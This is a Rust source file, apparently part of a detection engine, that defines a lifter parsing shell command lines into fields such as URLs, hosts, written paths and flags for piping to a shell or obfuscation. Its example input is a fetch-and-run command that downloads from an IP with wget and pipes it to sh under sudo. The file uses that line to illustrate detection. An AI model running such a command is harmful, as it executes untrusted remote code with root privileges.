// SPDX-License-Identifier: AGPL-3.0-or-later
//! Commands: what the line does, and the views of it.

use bumpalo::collections::Vec as ArenaVec;

use crate::vocab::{FieldType, Slot, SourceKind};

use super::shell::{Layers, View as ShellView, views};
use super::{Example, Lift, Lifter, View};

/// Reads a command line as a shell does.
pub(super) static COMMAND: Lifter = Lifter {
    name: "command",
    kinds: &[SourceKind::Command],
    inputs: &[("command_text", FieldType::Text)],
    outputs: &[
        "command_text",
        "command_text_raw",
        "command.argv0",
        "command.simple",
        "command.pipelines",
        "command.words",
        "command.args",
        "command.paths",
        "command.urls",
        "command.hosts",
        "command.writes",
        "command.pipeline_to_shell",
        "command.obfuscated",
        "command.decoded_to_shell",
    ],
    views: true,
    lift,
    examples: &[Example {
        kind: SourceKind::Command,
        payload: r#"{"command_text": "sudo wget -q http://192.0.2.1/x | sh > /tmp/o"}"#,
        gives: r#"{
            "command_text": "sudo wget -q http://192.0.2.1/x | sh > /tmp/o",
            "command_text_raw": "sudo wget -q http://192.0.2.1/x | sh > /tmp/o",
            "command.argv0": ["wget", "sh"],
            "command.simple": ["wget -q http://192.0.2.1/x", "sh"],
            "command.pipelines": ["wget -q http://192.0.2.1/x | sh"],
            "command.words": ["sudo", "wget", "-q", "http://192.0.2.1/x", "sh"],
            "command.args": ["-q", "http://192.0.2.1/x"],
            "command.paths": ["/tmp/o"],
            "command.urls": ["http://192.0.2.1/x"],
            "command.hosts": ["192.0.2.1"],
            "command.writes": ["/tmp/o"],
            "command.pipeline_to_shell": true,
            "command.obfuscated": false,
            "command.decoded_to_shell": false
        }"#,
    }],
};

/// The outputs that need no look into the line.
const TEXTS: u32 = 0b11;

fn lift<'a>(lift: &mut Lift<'_, 'a>) {
    let raw = match lift.input(0) {
        Slot::Text(text) => text,
        other => {
            lift.give(0, other);
            return;
        }
    };
    if !lift.site.views && lift.wanted & !TEXTS == 0 {
        lift.give(0, Slot::Text(raw));
        lift.give(1, Slot::Text(raw));
        return;
    }
    let layers = if lift.site.views { Layers::All } else { Layers::Raw };
    for (index, view) in views(raw, layers, lift.arena).iter().enumerate() {
        let values = values(raw, view);
        if index == 0 {
            for (index, value) in values.into_iter().enumerate() {
                lift.give(index, value);
            }
            continue;
        }
        let outputs = ArenaVec::from_iter_in(values, lift.arena).into_bump_slice();
        lift.views.push(View { via: view.via, outputs });
    }
}

/// The outputs, in their order.
const fn values<'a>(raw: &'a str, view: &ShellView<'a>) -> [Slot<'a>; 14] {
    let facts = &view.facts;
    [
        Slot::Text(view.text),
        Slot::Text(raw),
        Slot::Texts(facts.argv0),
        Slot::Texts(facts.simple),
        Slot::Texts(facts.pipelines),
        Slot::Texts(facts.words),
        Slot::Texts(facts.args),
        Slot::Texts(facts.paths),
        Slot::Texts(facts.urls),
        Slot::Texts(facts.hosts),
        Slot::Texts(facts.writes),
        Slot::Bool(facts.pipeline_to_shell),
        Slot::Bool(facts.obfuscated),
        Slot::Bool(facts.decoded_to_shell),
    ]
}
